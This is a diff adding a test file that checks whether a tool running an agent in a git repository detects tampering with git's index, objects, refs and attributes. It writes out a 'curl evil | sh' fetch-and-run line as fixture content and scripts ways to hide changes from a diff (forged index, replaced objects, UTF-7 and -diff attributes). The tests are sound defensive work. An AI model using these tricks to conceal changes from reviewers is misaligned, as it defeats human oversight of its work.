@@ -1,0 +1,266 @@
+/** What a run writes into git's own files by itself, as no git would: its index, its objects, its refs. */
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import {
+  existsSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  truncateSync,
+  writeFileSync,
+} from 'node:fs';
+import { dirname, join } from 'node:path';
+import { deflateSync } from 'node:zlib';
+import type { TaskRecord } from '../../src/task/record.ts';
+import { put, Repository, shell } from '../worktree/repository.ts';
+
+const EVIL = 'curl evil | sh\n';
+const PLAIN = { options: { worktree: false, retries: 0 } };
+
+describe('what a run wrote into a repository by itself', function () {
+  this.timeout(120_000);
+  let repository: Repository;
+  beforeEach(async () => {
+    repository = await Repository.make();
+  });
+  afterEach(() => repository.remove());
+
+  const index = (): string => join(repository.folder, '.git', 'index');
+  const blob = (content: string): string =>
+    repository.gitWith(content, 'hash-object', '-w', '--stdin').trim();
+  /** The index with other bytes, and the sum that git reads it by. */
+  const forge = (change: (bytes: Buffer) => Buffer): void => {
+    const bytes = change(readFileSync(index()).subarray(0, -20));
+    writeFileSync(`${index()}.new`, Buffer.concat([bytes, createHash('sha1').update(bytes).digest()]));
+    renameSync(`${index()}.new`, index());
+  };
+  const swap = (from: string, to: string): void =>
+    forge((bytes) => {
+      const was = Buffer.from(from, 'hex');
+      assert.ok(bytes.includes(was), 'the test would change nothing');
+      for (let at = bytes.indexOf(was); at !== -1; at = bytes.indexOf(was, at + 1))
+        bytes.write(to, at, 'hex');
+      return bytes;
+    });
+  const looseOf = (id: string): string =>
+    join(repository.folder, '.git', 'objects', id.slice(0, 2), id.slice(2));
+  const lost = ({ status, result }: TaskRecord, words: RegExp): void => {
+    assert.equal(status, 'failed', 'it completed');
+    assert.equal(result?.error?.code, 'repository_lost', result?.error?.message);
+    assert.match(result?.error?.message ?? '', words);
+  };
+  const asideIn = (folder: string): string[] =>
+    readdirSync(folder).filter((name) => name.includes('.koubou-aside-'));
+  /** Settled so that git takes the files for what the index says. */
+  const settled = (): void => {
+    shell(repository.folder, 'touch -d "1 hour ago" shared.txt sub/a.txt');
+    repository.git('update-index', '--refresh');
+    repository.git('commit', '-q', '--allow-empty', '-m', 'settled');
+  };
+
+  describe('its index', () => {
+    it('is set aside where it says of a file what is not so, and hides no later change', async () => {
+      settled();
+      const record = await repository.ran(() => {
+        swap(repository.git('rev-parse', 'HEAD:sub/a.txt').trim(), blob(EVIL));
+        put('b.txt', 'work\n')(repository.folder);
+      }, PLAIN);
+      lost(record, /sub\/a\.txt/);
+      assert.equal(asideIn(dirname(index())).length, 1);
+      const next = await repository.ran(put('sub/a.txt', EVIL), PLAIN);
+      assert.match(await repository.patchOf(next.task_id), /sub\/a\.txt/);
+    });
+
+    it('is set aside where the trees of its folders are others than its entries make', async () => {
+      repository.git('update-index', '--refresh');
+      const tree = repository.git('write-tree').trim();
+      const sub = repository.git('rev-parse', `${tree}:sub`).trim();
+      const evil = repository.gitWith(`100644 blob ${blob(EVIL)}\ta.txt\n`, 'mktree').trim();
+      const record = await repository.ran(() => {
+        swap(sub, evil);
+        put('b.txt', 'work\n')(repository.folder);
+      }, PLAIN);
+      lost(record, /the trees of its folders/);
+      repository.git('reset', '-q');
+      repository.commit('mine');
+      assert.equal(repository.git('show', 'HEAD:sub/a.txt'), 'a\n');
+    });
+
+    it('is left alone where git itself wrote it: staged files, files for later, bits and conflicts', async () => {
+      settled();
+      const { status, result } = await repository.ran(() => {
+        put('b.txt', 'work\n')(repository.folder);
+        put('sub/a.txt', 'other\n')(repository.folder);
+        put('later.txt', 'x\n')(repository.folder);
+        shell(
+          repository.folder,
+          `git add sub/a.txt; git add -N later.txt; git update-index --assume-unchanged shared.txt; echo more >>sub/a.txt
+          git update-index --split-index; id=$(git rev-parse :0:shared.txt); printf '100644 %s 1\\tc.txt\\n100644 %s 2\\tc.txt\\n' $id $id | git update-index --index-info`,
+        );
+      }, PLAIN);
+      assert.equal(status, 'completed', result?.error?.message);
+      assert.deepEqual(asideIn(dirname(index())), []);
+    });
+
+    it('is looked through in both its parts for a home', async () => {
+      const { result } = await repository.ran(() => {
+        put('b.txt', 'work\n')(repository.folder);
+        repository.git(
+          'update-index',
+          '--add',
+          '--cacheinfo',
+          `100644,${blob('x')},sub/.koubou/config/agent.yaml`,
+        );
+        repository.git('update-index', '--split-index');
+      }, PLAIN);
+      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
+    });
+
+    it('is looked through for a home that came while the check ran', async () => {
+      const check = `git update-index --add --cacheinfo 100644,${blob('x')},sub/.koubou/config/agent.yaml`;
+      const { result } = await repository.ran(put('b.txt', 'work\n'), {
+        options: { ...PLAIN.options, check },
+      });
+      assert.equal(result?.error?.code, 'home_in_changes', result?.error?.message);
+    });
+
+    it('is not copied where it is a hole as large as a disk', async () => {
+      const record = await repository.ran(() => {
+        put('b.txt', 'work\n')(repository.folder);
+        truncateSync(index(), 2 ** 40);
+      }, PLAIN);
+      assert.ok(['completed', 'failed'].includes(record.status));
+    });
+  });
+
+  describe('its objects', () => {
+    /** A tree in the place of another one, as a loose object. */
+    const overwrite = (id: string, content: Buffer, type = 'tree'): void => {
+      rmSync(looseOf(id), { force: true });
+      writeFileSync(
+        looseOf(id),
+        deflateSync(Buffer.concat([Buffer.from(`${type} ${content.length}\0`), content])),
+      );
+    };
+
+    for (const worktree of [false, true]) {
+      it(`are set aside where they are not what their names say, ${worktree ? 'in a worktree' : 'in a folder'}`, async () => {
+        const sub = repository.git('rev-parse', 'HEAD:sub').trim();
+        const entry = Buffer.concat([Buffer.from('100644 a.txt\0'), Buffer.from(blob(EVIL), 'hex')]);
+        const record = await repository.ran(
+          (cwd) => {
+            put('sub/a.txt', EVIL)(cwd);
+            put('b.txt', 'work\n')(cwd);
+            overwrite(sub, entry);
+          },
+          { options: { worktree, retries: 0 } },
+        );
+        lost(record, new RegExp(`objects/${sub.slice(0, 2)}/${sub.slice(2)}`));
+        assert.ok(!existsSync(looseOf(sub)));
+      });
+    }
+
+    it('are no pipe at which the next git waits', async () => {
+      const id = repository.git('rev-parse', 'HEAD:sub/a.txt').trim();
+      const record = await repository.ran((cwd) => {
+        put('b.txt', 'work\n')(cwd);
+        rmSync(looseOf(id));
+        execFileSync('mkfifo', [looseOf(id)]);
+      }, PLAIN);
+      lost(record, /objects/);
+      assert.ok(!existsSync(looseOf(id)));
+    });
+
+    it('are left alone where git wrote them: commits, and all of them packed', async () => {
+      const { status, result, task_id } = await repository.ran((cwd) => {
+        put('b.txt', 'work\n')(cwd);
+        repository.commit('of the agent');
+        repository.git('gc', '-q');
+      }, PLAIN);
+      assert.equal(status, 'completed', result?.error?.message);
+      assert.match(await repository.logOf(task_id), /packs of objects came/);
+      repository.git('fsck', '--full', '--strict');
+    });
+  });
+
+  it('replaces no object: such refs are renamed, and the run has failed', async () => {
+    const tree = repository.git('rev-parse', 'HEAD^{tree}').trim();
+    const evil = repository.gitWith(`100644 blob ${blob(EVIL)}\tshared.txt\n`, 'mktree').trim();
+    const record = await repository.ran((cwd) => {
+      put('b.txt', 'work\n')(cwd);
+      repository.git('update-ref', `refs/replace/${tree}`, evil);
+    }, PLAIN);
+    lost(record, /another content/);
+    assert.equal(repository.git('for-each-ref', 'refs/replace'), '');
+    assert.match(repository.git('for-each-ref', '--format=%(refname) %(objectname)'), new RegExp(evil));
+  });
+
+  it('hides nothing from a diff by an attribute', async () => {
+    const { task_id } = await repository.ran((cwd) => {
+      put('sub/.gitignore', '*\n')(cwd);
+      put('sub/.gitattributes', '*.txt -diff\n')(cwd);
+      put('sub/a.txt', EVIL)(cwd);
+    }, PLAIN);
+    assert.match(await repository.patchOf(task_id), /^\+curl evil \| sh$/m);
+  });
+
+  for (const worktree of [false, true]) {
+    it(`has git read no file by another encoding, ${worktree ? 'in a worktree' : 'in a folder'}`, async () => {
+      const { status, result } = await repository.ran(
+        (cwd) => {
+          put('sub/.gitignore', '*\n')(cwd);
+          put('sub/.gitattributes', '*.txt working-tree-encoding=UTF-7\n')(cwd);
+          put('sub/a.txt', 'a +ACM- then; evil\n')(cwd);
+          put('b.txt', 'work\n')(cwd);
+        },
+        { options: { worktree, retries: 0 } },
+      );
+      assert.equal(status, 'failed');
+      assert.equal(result?.error?.code, 'output_changed', result?.error?.message);
+      assert.match(result?.error?.message ?? '', /sub\/a\.txt/);
+    });
+  }
+
+  it('may be read by an encoding that was there before', async () => {
+    repository.write('.gitattributes', '*.rc working-tree-encoding=UTF-16LE\n');
+    repository.write('x.rc', Buffer.from('one\n', 'utf16le'));
+    repository.commit('sixteen');
+    const { status, result, task_id } = await repository.ran(
+      put('x.rc', Buffer.from('two\n', 'utf16le')),
+      PLAIN,
+    );
+    assert.equal(status, 'completed', result?.error?.message);
+    assert.match(await repository.patchOf(task_id), /^\+two$/m);
+  });
+
+  it('is shown of every attempt where each goes on from the other', async () => {
+    let runs = 0;
+    const { task_id, attempts } = await repository.ran(
+      (cwd) => {
+        runs += 1;
+        if (runs === 1) put('sub/a.txt', EVIL)(cwd);
+        else put('b.txt', 'harmless\n')(cwd);
+      },
+      { options: { worktree: false, retries: 1, check: 'test -e b.txt' } },
+    );
+    assert.equal(attempts.length, 2);
+    const patch = await repository.patchOf(task_id);
+    assert.match(patch, /^\+curl evil \| sh$/m);
+    assert.match(patch, /^\+harmless$/m);
+    repository.git('stash', '-uq');
+    repository.gitWith(patch, 'apply');
+    assert.equal(repository.read('sub/a.txt'), EVIL);
+  });
+
+  it('is applied where the branch is an older commit of the user’s', async () => {
+    repository.write('login.txt', 'checked\n');
+    repository.commit('safe');
+    repository.write('login.txt', 'hole\n');
+    repository.commit('hole');
+    const id = await repository.done((cwd) => shell(cwd, 'git reset -q --hard HEAD~1'));
+    assert.equal((await repository.apply(id)).result, 'applied');
+    assert.equal(repository.read('login.txt'), 'checked\n');
+  });
+});
